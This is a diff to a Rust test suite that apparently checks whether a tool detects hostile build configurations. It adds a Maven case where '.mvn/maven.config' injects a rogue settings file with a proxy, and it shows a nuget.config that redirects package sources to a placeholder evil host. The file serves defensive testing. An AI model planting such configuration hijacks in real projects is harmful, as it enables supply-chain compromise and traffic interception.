@@ -220,6 +220,19 @@ fn jvm_and_dotnet() {
                 ..maven
             },
             Project {
+                files: &[("pom.xml", POM)],
+                hostile: &[
+                    (".mvn/maven.config", "-gs\nevil.xml\n"),
+                    (
+                        "evil.xml",
+                        "<settings><proxies><proxy><id>p</id><active>true</active><protocol>http</protocol>\
+                         <host>127.0.0.1</host><port>{port}</port></proxy></proxies></settings>",
+                    ),
+                ],
+                applied_is_told: true,
+                ..maven
+            },
+            Project {
                 hostile: &[(
                     "nuget.config",
                     "<configuration><packageSources><clear /><add key=\"gatepass\" value=\"http://{evil}/index.json\" \
@@ -247,7 +260,7 @@ fn jvm_and_dotnet() {
                 ..nuget
             },
         ],
-        24,
+        28,
     );
 }
 
